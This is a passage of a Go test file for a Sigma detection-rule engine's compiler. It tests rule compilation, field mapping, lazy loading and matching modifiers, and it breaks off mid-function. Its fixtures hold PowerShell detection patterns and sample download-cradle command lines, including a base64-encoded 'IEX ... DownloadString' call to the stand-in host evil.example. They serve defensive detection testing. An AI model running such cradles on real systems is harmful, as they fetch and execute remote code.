@@ -0,0 +1,1695 @@
+package compiler
+
+import (
+	"bytes"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"os"
+	"path/filepath"
+	"reflect"
+	"slices"
+	"sort"
+	"strconv"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/PhucNguyen204/sigma-engine-golang/internal/clock"
+	"github.com/PhucNguyen204/sigma-engine-golang/internal/dag"
+	"github.com/PhucNguyen204/sigma-engine-golang/internal/ir"
+	"github.com/PhucNguyen204/sigma-engine-golang/internal/matcher"
+	sigmaerrors "github.com/PhucNguyen204/sigma-engine-golang/pkg/errors"
+)
+
+const testProcessRule = `
+title: Suspicious PowerShell
+id: 11111111-1111-1111-1111-111111111111
+logsource:
+    category: process_creation
+    product: windows
+detection:
+    selection:
+        Image|endswith: '\powershell.exe'
+        CommandLine|contains:
+            - 'IEX'
+            - 'DownloadString'
+    filter:
+        User: 'SYSTEM'
+    condition: selection and not filter
+fields:
+    - CommandLine
+    - User
+    - ParentImage
+level: high
+`
+
+func loadTestRule(t *testing.T, name string) string {
+	t.Helper()
+	data, err := os.ReadFile(filepath.Join("..", "..", "test-rules", name))
+	if err != nil {
+		t.Fatalf("Failed to read test rule %s: %v", name, err)
+	}
+	return string(data)
+}
+
+func TestCompileRuleDeduplicatesPrimitives(t *testing.T) {
+	compiler := NewCompiler()
+	if _, err := compiler.CompileRule(testProcessRule); err != nil {
+		t.Fatalf("Failed to compile rule: %v", err)
+	}
+	if _, err := compiler.CompileRule(testProcessRule); err != nil {
+		t.Fatalf("Failed to compile rule: %v", err)
+	}
+
+	if compiler.RuleCount() != 2 {
+		t.Errorf("Expected 2 rules, got %d", compiler.RuleCount())
+	}
+	if compiler.PrimitiveCount() != 3 {
+		t.Errorf("Expected 3 shared primitives, got %d", compiler.PrimitiveCount())
+	}
+
+	ruleset, err := compiler.Build()
+	if err != nil {
+		t.Fatalf("Failed to build ruleset: %v", err)
+	}
+	if len(ruleset.Dag.RuleResults) != 2 {
+		t.Errorf("Expected 2 result nodes, got %d", len(ruleset.Dag.RuleResults))
+	}
+	if len(ruleset.Dag.PrimitiveMap) != 3 {
+		t.Errorf("Expected primitive nodes to be shared, got %d", len(ruleset.Dag.PrimitiveMap))
+	}
+}
+
+func TestCompileTestRules(t *testing.T) {
+	rules := []string{
+		"simple_rule.yml",
+		"advanced_rule.yml",
+		"complex_rule.yml",
+		"network_connection.yml",
+		"process_creation.yml",
+		"real_world_complex.yml",
+		"with_not.yml",
+	}
+
+	compiler := NewCompiler()
+	for _, name := range rules {
+		if _, err := compiler.CompileRule(loadTestRule(t, name)); err != nil {
+			t.Errorf("Failed to compile %s: %v", name, err)
+		}
+	}
+
+	if _, err := compiler.CompileRule(loadTestRule(t, "malformed_rule.yml")); err == nil {
+		t.Error("Expected error for rule without condition")
+	}
+}
+
+func TestCompileRulePatternConditions(t *testing.T) {
+	rule := `
+title: Pattern Rule
+detection:
+    selection_a:
+        EventID: 1
+    selection_b:
+        EventID: 2
+    selection_c:
+        - Image: 'a.exe'
+        - Image: 'b.exe'
+    condition: 2 of selection_*
+`
+	compiler := NewCompiler()
+	if _, err := compiler.CompileRule(rule); err != nil {
+		t.Fatalf("Failed to compile rule: %v", err)
+	}
+	ruleset, err := compiler.Build()
+	if err != nil {
+		t.Fatalf("Failed to build ruleset: %v", err)
+	}
+
+	engine, err := dag.NewDagEngineBuilder().WithOptimization(false).BuildFromRuleset(ruleset)
+	if err != nil {
+		t.Fatalf("Failed to build engine: %v", err)
+	}
+
+	tests := []struct {
+		event   map[string]interface{}
+		matches bool
+	}{
+		{map[string]interface{}{"EventID": 1, "Image": "b.exe"}, true},
+		{map[string]interface{}{"EventID": 1}, false},
+		{map[string]interface{}{"Image": "a.exe"}, false},
+	}
+	for i, tt := range tests {
+		result, err := engine.Evaluate(tt.event)
+		if err != nil {
+			t.Fatalf("case %d: evaluation failed: %v", i, err)
+		}
+		if (len(result.MatchedRules) == 1) != tt.matches {
+			t.Errorf("case %d: expected match=%v, got %v", i, tt.matches, result.MatchedRules)
+		}
+	}
+}
+
+func TestCompiledRuleCapturesFields(t *testing.T) {
+	fieldMapping := NewFieldMapping()
+	fieldMapping.AddMapping("CommandLine", "process.command_line")
+	fieldMapping.AddMapping("User", "user.name")
+
+	compiler := NewCompiler().WithFieldMapping(fieldMapping)
+	engine, err := dag.NewDagEngineBuilder().
+		WithCompiler(compiler).
+		WithFieldCapture(true).
+		Build([]string{testProcessRule})
+	if err != nil {
+		t.Fatalf("Failed to build engine: %v", err)
+	}
+
+	result, err := engine.Evaluate(map[string]interface{}{
+		"Image":   `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
+		"process": map[string]interface{}{"command_line": "powershell IEX (New-Object Net.WebClient)"},
+		"user":    map[string]interface{}{"name": "alice"},
+	})
+	if err != nil {
+		t.Fatalf("Evaluation failed: %v", err)
+	}
+	if len(result.MatchedRules) != 1 || len(result.RuleMatches) != 1 {
+		t.Fatalf("Expected 1 matched rule with details, got %v / %d", result.MatchedRules, len(result.RuleMatches))
+	}
+
+	fields := result.RuleMatches[0].Fields
+	if fields["CommandLine"] != "powershell IEX (New-Object Net.WebClient)" {
+		t.Errorf("Expected mapped CommandLine value, got %v", fields["CommandLine"])
+	}
+	if fields["User"] != "alice" {
+		t.Errorf("Expected User value, got %v", fields["User"])
+	}
+	if _, exists := fields["ParentImage"]; exists {
+		t.Error("Expected missing ParentImage to be omitted")
+	}
+	if len(result.RuleMatches[0].Primitives) != 0 {
+		t.Error("Expected no primitive details without match details enabled")
+	}
+}
+
+func TestEngineReferencedFields(t *testing.T) {
+	fieldMapping := NewFieldMapping()
+	fieldMapping.AddMapping("CommandLine", "process.command_line")
+	fieldMapping.AddMapping("ParentImage", "process.parent.executable")
+
+	for _, capture := range []bool{false, true} {
+		engine, err := dag.NewDagEngineBuilder().
+			WithCompiler(NewCompiler().WithFieldMapping(fieldMapping)).
+			WithFieldCapture(capture).
+			Build([]string{testProcessRule})
+		if err != nil {
+			t.Fatalf("Failed to build engine: %v", err)
+		}
+
+		expected := []string{"Image", "User", "process.command_line"}
+		if capture {
+			expected = []string{"Image", "User", "process.command_line", "process.parent.executable"}
+		}
+		if fields := engine.ReferencedFields(); !reflect.DeepEqual(fields, expected) {
+			t.Errorf("capture=%t: expected fields %v, got %v", capture, expected, fields)
+		}
+	}
+}
+
+func TestEngineFieldAliases(t *testing.T) {
+	fieldMapping := NewFieldMapping()
+	fieldMapping.AddMapping("CommandLine", "process.command_line")
+	fieldMapping.AddFieldAliases("process.command_line", "winlog.event_data.CommandLine", "CommandLine")
+
+	image := `C:\Windows\System32\powershell.exe`
+	tests := []struct {
+		name     string
+		event    map[string]interface{}
+		expected bool
+	}{
+		{"field", map[string]interface{}{"Image": image, "process": map[string]interface{}{"command_line": "IEX $payload"}}, true},
+		{"first alias", map[string]interface{}{"Image": image, "winlog": map[string]interface{}{"event_data": map[string]interface{}{"CommandLine": "IEX $payload"}}}, true},
+		{"second alias", map[string]interface{}{"Image": image, "CommandLine": "IEX $payload"}, true},
+		// Only the first path present is read
+		{"field before alias", map[string]interface{}{"Image": image, "process": map[string]interface{}{"command_line": "whoami"}, "CommandLine": "IEX $payload"}, false},
+		{"missing", map[string]interface{}{"Image": image}, false},
+	}
+
+	for _, backend := range []dag.Backend{dag.BackendDAG, dag.BackendVM, dag.BackendInterpreter} {
+		engine, err := dag.NewDagEngineBuilder().
+			WithCompiler(NewCompiler().WithFieldMapping(fieldMapping)).
+			WithBackend(backend).
+			Build([]string{testProcessRule})
+		if err != nil {
+			t.Fatalf("Failed to build engine: %v", err)
+		}
+		for _, tt := range tests {
+			result, err := engine.Evaluate(tt.event)
+			if err != nil {
+				t.Fatalf("%s: failed to evaluate: %v", tt.name, err)
+			}
+			if matched := len(result.MatchedRules) == 1; matched != tt.expected {
+				t.Errorf("%s/%s: expected match %t, got rules %v", backend, tt.name, tt.expected, result.MatchedRules)
+			}
+		}
+
+		expected := []string{"CommandLine", "Image", "User", "process.command_line", "winlog.event_data.CommandLine"}
+		if fields := engine.ReferencedFields(); !reflect.DeepEqual(fields, expected) {
+			t.Errorf("Expected the aliases to be referenced fields, got %v", fields)
+		}
+	}
+}
+
+func TestEngineRuleUUIDs(t *testing.T) {
+	const uuid = "11111111-1111-1111-1111-111111111111"
+	engine, err := dag.NewDagEngineBuilder().
+		WithCompiler(NewCompiler()).
+		WithFieldCapture(true).
+		Build([]string{loadTestRule(t, "simple_rule.yml"), testProcessRule})
+	if err != nil {
+		t.Fatalf("Failed to build engine: %v", err)
+	}
+
+	if !engine.ContainsRuleUUID(uuid) || engine.ContainsRuleUUID("unknown") {
+		t.Error("Expected the engine to contain only compiled rule UUIDs")
+	}
+	if meta, exists := engine.RuleMetaByUUID(uuid); !exists || meta.Title != "Suspicious PowerShell" {
+		t.Errorf("Unexpected rule metadata: %+v", meta)
+	}
+
+	event := map[string]interface{}{"Image": `C:\powershell.exe`, "CommandLine": "IEX stuff", "User": "alice"}
+	single, err := engine.Evaluate(event)
+	if err != nil {
+		t.Fatalf("Evaluation failed: %v", err)
+	}
+	batch, err := engine.EvaluateBatch([]interface{}{event})
+	if err != nil {
+		t.Fatalf("Batch evaluation failed: %v", err)
+	}
+	for _, result := range []*dag.DagEvaluationResult{single, batch[0]} {
+		if len(result.MatchedRuleUUIDs) != 1 || result.MatchedRuleUUIDs[0] != uuid {
+			t.Errorf("Expected matched rule UUID %s, got %v", uuid, result.MatchedRuleUUIDs)
+		}
+		if len(result.RuleMatches) != 1 || result.RuleMatches[0].RuleUUID != uuid {
+			t.Errorf("Expected rule match to carry UUID %s, got %+v", uuid, result.RuleMatches)
+		}
+	}
+}
+
+func TestCompileRulesWithFilterSkipsRules(t *testing.T) {
+	compiler := NewCompiler()
+	engine, err := dag.NewDagEngineBuilder().
+		WithCompiler(compiler).
+		WithLogSourceFilter("authentication", "", "").
+		Build([]string{testProcessRule, loadTestRule(t, "advanced_rule.yml")})
+	if err != nil {
+		t.Fatalf("Failed to build engine: %v", err)
+	}
+
+	if compiler.RuleCount() != 1 || engine.RuleCount() != 1 {
+		t.Fatalf("Expected only the authentication rule to be compiled, got %d", compiler.RuleCount())
+	}
+	meta, exists := engine.RuleMeta(0)
+	if !exists || meta.SigmaID != "adv-001" || meta.Level != dag.LevelMedium {
+		t.Errorf("Unexpected rule metadata: %+v", meta)
+	}
+}
+
+func TestLazyEngine(t *testing.T) {
+	compiler := NewCompiler()
+	lazy, err := dag.NewDagEngineBuilder().
+		WithCompiler(compiler).
+		WithPrefilter(false).
+		BuildLazy([]string{loadTestRule(t, "advanced_rule.yml"), testProcessRule, "title: Broken\n"})
+	if err != nil {
+		t.Fatalf("Failed to build lazy engine: %v", err)
+	}
+	defer lazy.Close()
+
+	rules := lazy.Rules()
+	if rules[0].State != dag.RulePending || rules[1].State != dag.RulePending || rules[2].State != dag.RuleFailed {
+		t.Fatalf("Unexpected initial states: %+v", rules)
+	}
+	if rules[1].Meta.SigmaID != "11111111-1111-1111-1111-111111111111" || rules[1].Meta.LogSource.Category != "process_creation" {
+		t.Errorf("Expected metadata to be parsed eagerly, got %+v", rules[1].Meta)
+	}
+	if compiler.RuleCount() != 0 || lazy.Engine() != nil {
+		t.Fatal("Expected no rule to be compiled before its log source is seen")
+	}
+
+	process := map[string]interface{}{
+		"Image":       `C:\Windows\System32\powershell.exe`,
+		"CommandLine": "IEX (New-Object Net.WebClient).DownloadString('http://x')",
+		"User":        "alice",
+	}
+	result, err := lazy.Evaluate(dag.LogSource{Category: "process_creation", Product: "windows"}, process)
+	if err != nil {
+		t.Fatalf("Evaluation failed: %v", err)
+	}
+	if len(result.MatchedRules) != 1 || result.MatchedRuleUUIDs[0] != "11111111-1111-1111-1111-111111111111" {
+		t.Errorf("Expected the process rule to match, got %+v", result)
+	}
+	if rules = lazy.Rules(); rules[0].State != dag.RulePending || rules[1].State != dag.RuleCompiled || compiler.RuleCount() != 1 {
+		t.Errorf("Expected only the process rule to be compiled, got %+v", rules)
+	}
+
+	// A new log source compiles its rules into the same engine
+	if err := lazy.Compile(dag.LogSource{Category: "authentication"}); err != nil {
+		t.Fatalf("Compilation failed: %v", err)
+	}
+	if rules = lazy.Rules(); rules[0].State != dag.RuleCompiled || rules[0].Meta.ID != 1 || lazy.Engine().RuleCount() != 2 {
+		t.Errorf("Expected the authentication rule to be compiled, got %+v", rules)
+	}
+	if result, err := lazy.Evaluate(dag.LogSource{Category: "process_creation", Product: "windows"}, process); err != nil || len(result.MatchedRules) != 1 || result.MatchedRules[0] != 0 {
+		t.Errorf("Expected rule IDs to be stable across rebuilds, got %v, %v", result, err)
+	}
+}
+
+func TestLazyEngineRebuildFailure(t *testing.T) {
+	lazy, err := dag.NewDagEngineBuilder().
+		WithCompiler(NewCompiler()).
+		WithMemoryBudget(1).
+		BuildLazy([]string{testProcessRule})
+	if err != nil {
+		t.Fatalf("Failed to build lazy engine: %v", err)
+	}
+	defer lazy.Close()
+
+	source := dag.LogSource{Category: "process_creation", Product: "windows"}
+	process := map[string]interface{}{"Image": `C:\Windows\System32\powershell.exe`, "CommandLine": "IEX", "User": "alice"}
+	_, err = lazy.Evaluate(source, process)
+	if !sigmaerrors.IsType(err, sigmaerrors.ErrorTypeMemoryBudgetExceeded) {
+		t.Fatalf("Expected the rebuild to exceed the memory budget, got %v", err)
+	}
+	if rules := lazy.Rules(); rules[0].State != dag.RuleFailed || rules[0].Err != err {
+		t.Errorf("Expected the rule to fail with the rebuild error, got %+v", rules[0])
+	}
+
+	// The rebuild is retried rather than evaluating without the rule
+	if _, err := lazy.Evaluate(source, process); !sigmaerrors.IsType(err, sigmaerrors.ErrorTypeMemoryBudgetExceeded) {
+		t.Errorf("Expected the rebuild to be retried, got %v", err)
+	}
+	if lazy.Engine() != nil {
+		t.Error("Expected no engine without the rule")
+	}
+}
+
+func TestCompileRulesConcurrently(t *testing.T) {
+	rules := []string{testProcessRule, loadTestRule(t, "malformed_rule.yml")}
+	for _, name := range []string{"simple_rule.yml", "complex_rule.yml", "advanced_rule.yml", "network_connection.yml", "process_creation.yml", "real_world_complex.yml", "with_not.yml"} {
+		rules = append(rules, loadTestRule(t, name))
+	}
+	rules = append(rules, rules...)
+
+	compile := func(threads int) *CompilationResult {
+		config := DefaultCompilerConfig()
+		config.TolerateRuleErrors = true
+		config.NumThreads = threads
+		result, err := NewCompilerWithConfig(config).CompileRulesResult(rules)
+		if err != nil {
+			t.Fatalf("Failed to compile rules on %d threads: %v", threads, err)
+		}
+		return result
+	}
+
+	sequential, concurrent := compile(1), compile(8)
+	if !reflect.DeepEqual(sequential.Ruleset, concurrent.Ruleset) {
+		t.Error("Expected the same ruleset regardless of the number of threads")
+	}
+	if len(concurrent.Errors) != 2 || concurrent.Errors[0].Index != 1 || concurrent.Errors[1].Index != len(rules)/2+1 {
+		t.Errorf("Expected the malformed rules to be excluded in order, got %v", concurrent.Errors)
+	}
+	for i, info := range concurrent.PerRule {
+		if info.RuleID != sequential.PerRule[i].RuleID || !reflect.DeepEqual(info.Selections, sequential.PerRule[i].Selections) {
+			t.Errorf("Expected the same compile info for rule %d, got %+v and %+v", i, info, sequential.PerRule[i])
+		}
+	}
+}
+
+func TestCompileRuleConditionTooDeep(t *testing.T) {
+	rule := fmt.Sprintf(`
+title: Nested Rule
+detection:
+    selection:
+        EventID: 1
+    condition: %sselection%s
+`, strings.Repeat("(", 5), strings.Repeat(")", 5))
+
+	config := DefaultCompilerConfig()
+	config.MaxConditionDepth = 4
+	_, err := NewCompilerWithConfig(config).CompileRule(rule)
+	var sigmaErr *sigmaerrors.SigmaError
+	if !errors.As(err, &sigmaErr) || sigmaErr.Type != sigmaerrors.ErrorTypeCompilation {
+		t.Fatalf("Expected compilation error, got %v", err)
+	}
+	if !strings.Contains(err.Error(), "Nested Rule") {
+		t.Errorf("Expected error to name the rule, got %v", err)
+	}
+
+	if _, err := NewCompiler().CompileRule(rule); err != nil {
+		t.Errorf("Expected the default limit to accept 5 levels, got %v", err)
+	}
+}
+
+func TestCompileErrorsAreTyped(t *testing.T) {
+	tests := []struct {
+		name     string
+		rule     string
+		errType  sigmaerrors.ErrorType
+		ruleName string
+		field    string
+	}{
+		{"invalid YAML", "title: [unclosed", sigmaerrors.ErrorTypeYAML, "", ""},
+		{"unknown selection", `
+title: Missing Selection
+detection:
+    selection:
+        EventID: 4624
+    condition: selection and other
+`, sigmaerrors.ErrorTypeCompilation, "Missing Selection", ""},
+		{"empty field values", `
+title: Empty Values
+detection:
+    selection:
+        EventID: []
+    condition: selection
+`, sigmaerrors.ErrorTypeCompilation, "Empty Values", "EventID"},
+		{"unknown modifier", `
+title: Dash Rule
+detection:
+    selection:
+        CommandLine|windash|contains: '-enc'
+    condition: selection
+`, sigmaerrors.ErrorTypeModifier, "Dash Rule", "CommandLine"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			_, err := NewCompiler().CompileRule(tt.rule)
+			var sigmaErr *sigmaerrors.SigmaError
+			if !errors.As(err, &sigmaErr) {
+				t.Fatalf("Expected a SigmaError, got %v", err)
+			}
+			if sigmaErr.Type != tt.errType || sigmaErr.Rule != tt.ruleName || sigmaErr.Field != tt.field {
+				t.Errorf("Expected %s error for rule %q, field %q, got %s for rule %q, field %q (%v)",
+					tt.errType, tt.ruleName, tt.field, sigmaErr.Type, sigmaErr.Rule, sigmaErr.Field, err)
+			}
+		})
+	}
+}
+
+func TestCompileRuleUnknownModifier(t *testing.T) {
+	rule := `
+title: Dash Rule
+detection:
+    selection:
+        CommandLine|windash|contains: '-enc'
+    condition: selection
+`
+	_, err := NewCompiler().CompileRule(rule)
+	var sigmaErr *sigmaerrors.SigmaError
+	if !errors.As(err, &sigmaErr) || sigmaErr.Type != sigmaerrors.ErrorTypeModifier {
+		t.Fatalf("Expected modifier error, got %v", err)
+	}
+	if !strings.Contains(err.Error(), "windash") || !strings.Contains(err.Error(), "Dash Rule") {
+		t.Errorf("Expected error to name the modifier and rule, got %v", err)
+	}
+
+	config := DefaultCompilerConfig()
+	config.LenientModifiers = true
+	if _, err := NewCompilerWithConfig(config).CompileRule(rule); err != nil {
+		t.Errorf("Expected lenient compiler to accept the rule, got %v", err)
+	}
+}
+
+func TestCompileRuleCustomMatcher(t *testing.T) {
+	rule := `
+title: Long Command Line
+detection:
+    selection:
+        CommandLine|longer: '10'
+    condition: selection
+`
+	longer := func(fieldValue string, values []string, modifiers []string) (bool, error) {
+		for _, value := range values {
+			if n, err := strconv.Atoi(value); err == nil && len(fieldValue) > n {
+				return true, nil
+			}
+		}
+		return false, nil
+	}
+
+	if _, err := NewCompiler().CompileRule(rule); err == nil {
+		t.Fatal("Expected unregistered custom matcher to be rejected")
+	}
+
+	engine, err := dag.NewDagEngineBuilder().
+		WithOptimization(false).
+		WithCompiler(NewCompiler()).
+		WithCustomMatcher("longer", longer).
+		Build([]string{rule})
+	if err != nil {
+		t.Fatalf("Failed to build engine: %v", err)
+	}
+
+	result, err := engine.Evaluate(map[string]interface{}{"CommandLine": "cmd.exe /c whoami"})
+	if err != nil {
+		t.Fatalf("Evaluation failed: %v", err)
+	}
+	if len(result.MatchedRules) != 1 {
+		t.Errorf("Expected custom matcher to match, got %v", result.MatchedRules)
+	}
+
+	result, err = engine.Evaluate(map[string]interface{}{"CommandLine": "whoami"})
+	if err != nil {
+		t.Fatalf("Evaluation failed: %v", err)
+	}
+	if len(result.MatchedRules) != 0 {
+		t.Errorf("Expected no match for short command line, got %v", result.MatchedRules)
+	}
+}
+
+func TestCompileRuleTimeMatchers(t *testing.T) {
+	rule := `
+title: Off-Hours Logon
+detection:
+    selection:
+        EventID: 4624
+        TimeCreated|between|tz:UTC: '18:00..06:00'
+    condition: selection
+`
+	compiler := NewCompiler()
+	ruleset, err := compiler.CompileRules([]string{rule})
+	if err != nil {
+		t.Fatalf("Failed to compile rule: %v", err)
+	}
+	engine, err := dag.NewDagEngineBuilder().WithOptimization(false).BuildFromRuleset(ruleset)
+	if err != nil {
+		t.Fatalf("Failed to build engine: %v", err)
+	}
+
+	tests := []struct {
+		timestamp string
+		expected  int
+	}{
+		{"2024-01-01T23:15:00Z", 1},
+		{"2024-01-01T11:00:00Z", 0},
+	}
+	for _, tt := range tests {
+		result, err := engine.Evaluate(map[string]interface{}{"EventID": "4624", "TimeCreated": tt.timestamp})
+		if err != nil {
+			t.Fatalf("Evaluation failed: %v", err)
+		}
+		if len(result.MatchedRules) != tt.expected {
+			t.Errorf("%s: expected %d matches, got %v", tt.timestamp, tt.expected, result.MatchedRules)
+		}
+	}
+}
+
+func TestCompileRuleBase64Scan(t *testing.T) {
+	rule := `
+title: Encoded PowerShell Download Cradle
+detection:
+    selection:
+        CommandLine|base64_scan:
+            - 'DownloadString'
+            - 'DownloadFile'
+    condition: selection
+`
+	compiler := NewCompiler()
+	ruleset, err := compiler.CompileRules([]string{rule})
+	if err != nil {
+		t.Fatalf("Failed to compile rule: %v", err)
+	}
+	engine, err := dag.NewDagEngineBuilder().WithOptimization(false).BuildFromRuleset(ruleset)
+	if err != nil {
+		t.Fatalf("Failed to build engine: %v", err)
+	}
+
+	payload := "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AZQB2AGkAbAAuAGUAeABhAG0AcABsAGUALwBhACcAKQA="
+	result, err := engine.Evaluate(map[string]interface{}{"CommandLine": "powershell -enc " + payload})
+	if err != nil {
+		t.Fatalf("Evaluation failed: %v", err)
+	}
+	if len(result.MatchedRules) != 1 {
+		t.Errorf("Expected encoded payload to match, got %v", result.MatchedRules)
+	}
+}
+
+func TestCompileRuleBase64ScanIgnoresCase(t *testing.T) {
+	rule := `
+title: Encoded PowerShell Download Cradle
+detection:
+    selection:
+        CommandLine|base64_scan: 'net.webclient).downloadSTRING'
+    condition: selection
+`
+	ruleset, err := NewCompiler().CompileRules([]string{rule})
+	if err != nil {
+		t.Fatalf("Failed to compile rule: %v", err)
+	}
+	engine, err := dag.NewDagEngineBuilder().WithOptimization(false).BuildFromRuleset(ruleset)
+	if err != nil {
+		t.Fatalf("Failed to build engine: %v", err)
+	}
+
+	// Decodes to IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')
+	payload := "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AZQB2AGkAbAAuAGUAeABhAG0AcABsAGUALwBhACcAKQA="
+	result, err := engine.Evaluate(map[string]interface{}{"CommandLine": "powershell -enc " + payload})
+	if err != nil {
+		t.Fatalf("Evaluation failed: %v", err)
+	}
+	if len(result.MatchedRules) != 1 {
+		t.Errorf("Expected mixed-case value to match the decoded payload, got %v", result.MatchedRules)
+	}
+}
+
+func TestCompileRuleParameterizedModifiers(t *testing.T) {
+	rule := `
+title: Cloud Audit Actor
+detection:
+    selection:
+        Payload|json_extract:$.actor.name|contains: 'svc-'
+    condition: selection
+`
+	compiler := NewCompiler()
+	ruleset, err := compiler.CompileRules([]string{rule})
+	if err != nil {
+		t.Fatalf("Failed to compile rule: %v", err)
+	}
+	engine, err := dag.NewDagEngineBuilder().WithOptimization(false).BuildFromRuleset(ruleset)
+	if err != nil {
+		t.Fatalf("Failed to build engine: %v", err)
+	}
+	result, err := engine.Evaluate(map[string]interface{}{"Payload": `{"actor": {"name": "svc-backup"}}`})
+	if err != nil {
+		t.Fatalf("Evaluation failed: %v", err)
+	}
+	if len(result.MatchedRules) != 1 {
+		t.Errorf("Expected extracted value to match, got %v", result.MatchedRules)
+	}
+
+	// A payload without the path, or that is not JSON, does not match and
+	// does not keep other rules from matching
+	userRule := `
+title: Alice Activity
+detection:
+    selection:
+        User: 'alice'
+    condition: selection
+`
+	ruleset, err = NewCompiler().CompileRules([]string{rule, userRule})
+	if err != nil {
+		t.Fatalf("Failed to compile rules: %v", err)
+	}
+	engine, err = dag.NewDagEngineBuilder().WithOptimization(false).BuildFromRuleset(ruleset)
+	if err != nil {
+		t.Fatalf("Failed to build engine: %v", err)
+	}
+	for _, payload := range []string{`{"actor": {}}`, `{"actor": [1]}`, "not json"} {
+		result, err := engine.Evaluate(map[string]interface{}{"Payload": payload, "User": "alice"})
+		if err != nil {
+			t.Fatalf("%s: evaluation failed: %v", payload, err)
+		}
+		if len(result.MatchedRules) != 1 {
+			t.Errorf("%s: expected only the second rule to match, got %v", payload, result.MatchedRules)
+		}
+	}
+
+	invalid := strings.Replace(rule, "json_extract:$.actor.name", "json_extract:$.actor[", 1)
+	_, err = NewCompiler().CompileRule(invalid)
+	var sigmaErr *sigmaerrors.SigmaError
+	if !errors.As(err, &sigmaErr) || sigmaErr.Type != sigmaerrors.ErrorTypeModifier {
+		t.Errorf("Expected modifier error for invalid path, got %v", err)
+	}
+}
+
+func TestBuildResultPerRule(t *testing.T) {
+	lenientRule := `
+title: Dash Rule
+id: 22222222-2222-2222-2222-222222222222
+detection:
+    selection:
+        CommandLine|windash|contains: '-enc'
+    unused:
+        User: 'SYSTEM'
+    condition: selection
+`
+	config := DefaultCompilerConfig()
+	config.LenientModifiers = true
+	compiler := NewCompilerWithConfig(config)
+	for _, rule := range []string{testProcessRule, lenientRule} {
+		if _, err := compiler.CompileRule(rule); err != nil {
+			t.Fatalf("Failed to compile rule: %v", err)
+		}
+	}
+
+	result, err := compiler.BuildResult()
+	if err != nil {
+		t.Fatalf("Failed to build result: %v", err)
+	}
+	if result.RuleCount != 2 || result.PrimitiveCount != len(result.Ruleset.Primitives) || len(result.PerRule) != 2 {
+		t.Fatalf("Unexpected result statistics: %+v", result)
+	}
+
+	process := result.PerRule[0]
+	if process.UUID != "11111111-1111-1111-1111-111111111111" || process.RuleID != 0 || process.Title != "Suspicious PowerShell" {
+		t.Errorf("Unexpected rule identity: %+v", process)
+	}
+	if len(process.Selections["selection"]) != 2 || len(process.Selections["filter"]) != 1 {
+		t.Errorf("Unexpected selections: %v", process.Selections)
+	}
+	if len(process.PrimitiveIDs) != 3 {
+		t.Errorf("Expected 3 primitive IDs, got %v", process.PrimitiveIDs)
+	}
+	for i, primitiveID := range process.PrimitiveIDs {
+		if int(primitiveID) >= result.PrimitiveCount || (i > 0 && primitiveID <= process.PrimitiveIDs[i-1]) {
+			t.Errorf("Primitive IDs must be sorted ruleset IDs, got %v", process.PrimitiveIDs)
+		}
+	}
+	if process.Condition != "(selection and not filter)" {
+		t.Errorf("Unexpected condition: %s", process.Condition)
+	}
+	if len(process.Warnings) != 0 {
+		t.Errorf("Expected no warnings, got %v", process.Warnings)
+	}
+
+	dash := result.PerRule[1]
+	if dash.RuleID != 1 || len(dash.PrimitiveIDs) != 1 {
+		t.Errorf("Unexpected rule info: %+v", dash)
+	}
+	if len(dash.Warnings) != 2 ||
+		!strings.Contains(dash.Warnings[0], "windash") ||
+		!strings.Contains(dash.Warnings[1], "unused") {
+		t.Errorf("Expected skipped modifier and unused selection warnings, got %v", dash.Warnings)
+	}
+}
+
+func TestCompileRuleUnmappedFieldPolicy(t *testing.T) {
+	fieldMapping := NewFieldMapping()
+	fieldMapping.AddMapping("CommandLine", "process.command_line")
+	fieldMapping.AddMapping("Image", "process.executable")
+
+	for _, policy := range []UnmappedFieldPolicy{UnmappedFieldAllow, UnmappedFieldWarn, UnmappedFieldFail} {
+		config := DefaultCompilerConfig()
+		config.UnmappedFieldPolicy = policy
+		compiler := NewCompilerWithConfig(config).WithFieldMapping(fieldMapping)
+		_, err := compiler.CompileRule(testProcessRule)
+		if policy == UnmappedFieldFail {
+			var sourceErr *SourceError
+			if err == nil || !strings.Contains(err.Error(), "field User has no field mapping") || !errors.As(err, &sourceErr) || sourceErr.Line != 14 {
+				t.Errorf("Expected the unmapped field to fail the rule at its key, got %v", err)
+			}
+			continue
+		}
+		if err != nil {
+			t.Fatalf("%s: failed to compile rule: %v", policy, err)
+		}
+
+		result, err := compiler.BuildResult()
+		if err != nil {
+			t.Fatalf("Failed to build result: %v", err)
+		}
+		warnings := result.PerRule[0].Warnings
+		if policy == UnmappedFieldAllow && len(warnings) != 0 {
+			t.Errorf("Expected no warnings, got %v", warnings)
+		}
+		if policy == UnmappedFieldWarn && (len(warnings) != 1 || !strings.Contains(warnings[0], "field User has no field mapping")) {
+			t.Errorf("Expected an unmapped field warning, got %v", warnings)
+		}
+	}
+
+	// An identity mapping allows a field through, and rules compile as-is
+	// without any field mapping
+	fieldMapping.AddMapping("User", "User")
+	config := DefaultCompilerConfig()
+	config.UnmappedFieldPolicy = UnmappedFieldFail
+	for _, compiler := range []*Compiler{
+		NewCompilerWithConfig(config).WithFieldMapping(fieldMapping),
+		NewCompilerWithConfig(config),
+	} {
+		if _, err := compiler.CompileRule(testProcessRule); err != nil {
+			t.Errorf("Expected the rule to compile, got %v", err)
+		}
+	}
+}
+
+func TestCompileRuleFieldPatterns(t *testing.T) {
+	rule := `
+title: Known Bad Hash
+detection:
+    selection:
+        Hash*|contains: 'deadbeef'
+        Image|endswith: '.exe'
+    other:
+        Parent*: 'explorer.exe'
+    condition: selection or other
+`
+	fieldMapping := NewFieldMapping()
+	fieldMapping.AddMapping("Hashes", "file.hash.all")
+	fieldMapping.AddMapping("Hash", "file.hash.sha256")
+	fieldMapping.AddMapping("Image", "process.executable")
+
+	config := DefaultCompilerConfig()
+	config.ExpandFieldPatterns = true
